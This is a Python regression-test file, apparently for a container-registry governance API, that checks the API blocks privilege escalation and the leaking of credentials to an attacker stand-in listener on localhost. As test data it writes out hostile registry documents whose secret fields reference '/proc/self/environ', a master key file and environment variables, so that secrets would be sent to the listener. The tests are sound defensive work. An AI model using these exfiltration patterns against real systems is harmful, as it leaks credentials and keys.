"""Regression tests for issue 8's attacks through the API, each with a listener on 127.0.0.1
(a stand-in for the attacker's host) that must receive nothing secret.

1. Escalation: a platform engineer applies a document that makes them administrator.
2. Secret references: a platform engineer applies a registry whose secret is
   ``file:<master key>`` or ``env:VAR`` and whose URL is the listener, then tests it.
3. Origin binding: a platform engineer moves a registry holding a stored robot
   secret to the listener (URL, or TLS trust) and tests it.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator

import pytest
import yaml

from tests.api.conftest import Api
from tests.registry.standin import Reply, Seen, StandIn, stand_in

P = "/api/v1"
CANARY = "canary-exfil-7Hq2LmW9"


def _challenge(_seen: Seen) -> Reply:
    # Ask for Basic credentials, as a registry would: a client holding some sends them now.
    headers = {
        "WWW-Authenticate": 'Basic realm="listener"',
        "Docker-Distribution-API-Version": "registry/2.0",
    }
    return Reply(401, headers)


@pytest.fixture
def listener() -> Iterator[StandIn]:
    with stand_in(_challenge) as server:
        yield server


def _leaked(listener: StandIn, *secrets: str) -> list[str]:
    """Every place a secret (or its Basic-auth encoding) reached the listener."""
    out = []
    for seen in listener.seen:
        blob = repr(seen.headers).encode() + seen.path.encode() + seen.body
        for secret in secrets:
            forms = [secret.encode(), base64.b64encode(secret.encode())]
            forms += [base64.b64encode(f"{u}:{secret}".encode()) for u in ("x", "robot$x", "u")]
            if any(f in blob for f in forms):
                out.append(f"{seen.method} {seen.path}")
        if "authorization" in seen.headers:
            out.append(f"{seen.method} {seen.path}: Authorization header")
    return out


def test_a_platform_engineer_cannot_make_themselves_administrator(api: Api) -> None:
    exported = api.client.get(f"{P}/export", headers=api.headers("platform")).text
    doc = yaml.safe_load(exported)
    for user in doc["users"]:
        if user["name"] == "platform":
            user["role"] = "administrator"
    response = api.client.post(
        f"{P}/apply", json={"document": yaml.safe_dump(doc)}, headers=api.headers("platform")
    )
    assert response.status_code == 403, response.text
    problem = response.json()
    assert response.headers["content-type"] == "application/problem+json"
    assert "users" in problem["detail"]
    roles = {u["name"]: u["role"] for u in api.client.get(f"{P}/users", headers=api.headers("admin")).json()}
    assert roles["platform"] == "platform-engineer"
    # ...so the administrator-only token route stays closed to them.
    minted = api.client.post(
        f"{P}/tokens", json={"user": "admin", "name": "x"}, headers=api.headers("platform")
    )
    assert minted.status_code == 403


@pytest.mark.parametrize("reference", ["master-key", "environ", "env"])
def test_references_in_an_api_document_are_refused_and_nothing_is_sent(
    api: Api, listener: StandIn, reference: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HM_EXFIL_TARGET", CANARY)
    secret = {
        "master-key": f"file:{api.hm.settings.home / 'master.key'}",
        "environ": "file:/proc/self/environ",
        "env": "env:HM_EXFIL_TARGET",
    }[reference]
    document = {
        "apiVersion": "harbourmaster.io/v1",
        "kind": "Governance",
        "registries": [
            {
                "name": "collector",
                "provider": "custom",
                "url": listener.url,
                "tls": {"insecure": True},
                "credential": {"username": "x", "secret": secret},
            }
        ],
    }
    response = api.client.post(
        f"{P}/apply", json={"document": yaml.safe_dump(document)}, headers=api.headers("platform")
    )
    assert response.status_code == 422, response.text
    assert any(
        e.startswith("registries[0].credential.secret: secret references") for e in response.json()["errors"]
    )
    tested = api.client.post(f"{P}/registries/collector/test", headers=api.headers("platform"))
    assert tested.status_code == 404
    master_key = (api.hm.settings.home / "master.key").read_text().strip()
    assert listener.seen == []
    assert _leaked(listener, CANARY, master_key) == []


def test_a_pem_path_in_an_api_registry_is_refused(api: Api) -> None:
    body = {
        "name": "pem-reader",
        "provider": "custom",
        "url": "https://pem.corp",
        "tls": {"ca_bundle": str(api.hm.settings.home / "master.key")},
    }
    response = api.client.post(f"{P}/registries", json=body, headers=api.headers("platform"))
    assert response.status_code == 422, response.text
    assert "PEM text" in response.text


def test_moving_a_registry_never_sends_its_stored_secret(api: Api, listener: StandIn) -> None:
    # The administrator enters a robot secret for a registry that is not the listener...
    body = {
        "name": "robot-reg",
        "provider": "custom",
        "url": "https://registry.corp",
        "credential": {"kind": "user", "username": "robot$x", "secret": CANARY},
    }
    created = api.client.post(f"{P}/registries", json=body, headers=api.headers("admin"))
    assert created.status_code == 201, created.text
    # ...a platform engineer points it at their listener...
    patch = {"url": listener.url, "tls": {"insecure": True}}
    moved = api.client.patch(f"{P}/registries/robot-reg", json=patch, headers=api.headers("platform"))
    assert moved.status_code == 200, moved.text
    assert moved.json()["credential"]["secret_set"] is False
    # ...and tests it: the listener is reached, and receives no credential.
    report = api.client.post(f"{P}/registries/robot-reg/test", headers=api.headers("platform"))
    assert report.status_code == 200, report.text
    assert listener.seen, "the test never reached the listener"
    assert _leaked(listener, CANARY) == []
    assert CANARY not in report.text and CANARY not in moved.text
    audit = api.client.get(f"{P}/audit/export", headers=api.headers("admin")).text
    assert "stored secret dropped (origin changed" in audit


@pytest.mark.parametrize(
    "trust",
    [{"insecure": True}, {"ca_bundle": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"}],
    ids=["insecure", "ca-bundle"],
)
def test_changing_tls_trust_drops_the_stored_secret(api: Api, trust: dict[str, object]) -> None:
    body = {
        "name": "trusting",
        "provider": "custom",
        "url": "https://registry.corp",
        "credential": {"kind": "user", "username": "u", "secret": CANARY},
    }
    assert api.client.post(f"{P}/registries", json=body, headers=api.headers("admin")).status_code == 201
    moved = api.client.patch(f"{P}/registries/trusting", json={"tls": trust}, headers=api.headers("platform"))
    assert moved.status_code == 200, moved.text
    assert moved.json()["credential"]["secret_set"] is False
    # Supplying the secret again in the same change keeps it.
    again = api.client.patch(
        f"{P}/registries/trusting",
        json={"tls": {"insecure": False}, "credential": {"secret": CANARY}},
        headers=api.headers("admin"),
    )
    assert again.json()["credential"]["secret_set"] is True
